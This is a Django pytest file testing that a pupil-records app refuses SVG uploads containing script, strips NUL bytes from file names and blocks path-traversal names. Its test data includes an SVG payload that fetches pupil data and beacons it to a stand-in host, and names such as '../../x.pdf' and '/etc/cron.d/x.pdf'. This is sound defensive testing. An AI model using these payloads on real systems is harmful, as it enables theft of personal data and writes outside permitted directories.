"""Hostile uploads the other upload tests do not cover (issue 13.8b): an SVG carrying a script,
under its own name or dressed as a PNG, is refused by every accepted-type list and by the forms;
a NUL in a file name is never stored or served; a path in the sender's name ("../../x.pdf",
"..\\x.pdf") never reaches the disk or a download's name, for plan documents as well as
chronology attachments (tests/chronology/test_upload_safety.py has those)."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from sendco.accounts.roles import Role
from sendco.chronology.models import ChronologyAttachment, ChronologyEntry
from sendco.core import uploads
from sendco.domain import file_types
from sendco.statutory.models import PlanDocument
from tests.chronology.test_entry_form import _data
from tests.files import PDF
from tests.statutory_records import make_records

SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('/api/v1/pupils/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"
    b'<rect width="4" height="4"/></svg>'
)
ACCEPT_LISTS = [file_types.EVIDENCE, ("pdf",), ("jpeg", "png"), ("png", "jpeg", "gif")]


@pytest.mark.parametrize("accept", ACCEPT_LISTS, ids=",".join)
def test_an_svg_with_a_script_is_refused_by_every_accepted_type_list(accept, settings):
    settings.SENDCO_ANTIVIRUS = ""
    with pytest.raises(file_types.RejectedFile):
        uploads.check_bytes(SVG, accept=accept)


def _attach(cast, client, name, data, content_type):
    client.force_login(cast.user(Role.SENCO))
    upload = SimpleUploadedFile(name, data, content_type=content_type)
    return client.post(reverse("chronology-create", args=[cast.pupil.pk]), _data(cast, attachments=[upload]))


@pytest.mark.parametrize(
    "name,content_type",
    [("drawing.svg", "image/svg+xml"), ("photo.png", "image/png"), ("x.pdf", "application/pdf")],
)
def test_an_svg_attachment_is_refused_and_nothing_saved(cast, client, name, content_type):
    response = _attach(cast, client, name, SVG, content_type)
    assert response.status_code == 200 and f"{name}: " in response.content.decode()
    assert not ChronologyEntry.objects.exists() and not ChronologyAttachment.objects.exists()


def test_a_nul_in_an_upload_name_is_never_stored_or_served(cast, client):
    """Django's multipart parser drops non-printable characters from file names (so the
    input guard never sees this NUL): the label, the stored name and the download are clean."""
    assert _attach(cast, client, "report\x00.exe.pdf", PDF, "application/pdf").status_code == 302
    attachment = ChronologyAttachment.objects.get()
    assert "\x00" not in attachment.original_name and "\x00" not in attachment.file.name
    response = client.get(reverse("chronology-attachment", args=[attachment.entry_id, attachment.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="report-exe.pdf"'


@pytest.mark.parametrize("name", ["../../x.pdf", "..\\..\\x.pdf", "/etc/cron.d/x.pdf", "....//x.pdf"])
def test_a_path_in_a_plan_documents_name_never_reaches_disk_or_download(cast, client, settings, name):
    records = make_records(cast.pupil)
    client.force_login(cast.user(Role.SENCO))
    url = reverse("statutory-document-upload", args=[cast.pupil.pk, records["plan"].pk])
    upload = SimpleUploadedFile(name, PDF, content_type="application/pdf")
    assert client.post(url, {"kind": "amended", "dated": "2026-02-01", "file": upload}).status_code == 302
    doc = PlanDocument.objects.get(kind="amended")
    assert ".." not in doc.file.name and "\\" not in doc.file.name and "etc" not in doc.file.name
    assert doc.file.path.startswith(str(settings.MEDIA_ROOT) + "/")
    response = client.get(reverse("statutory-document", args=[cast.pupil.pk, records["plan"].pk, doc.pk]))
    disposition = response["Content-Disposition"]
    filename = disposition.split("filename", 1)[1]
    assert not any(bad in filename for bad in ("..", "/", "\\")), disposition
    assert b"".join(response.streaming_content) == PDF
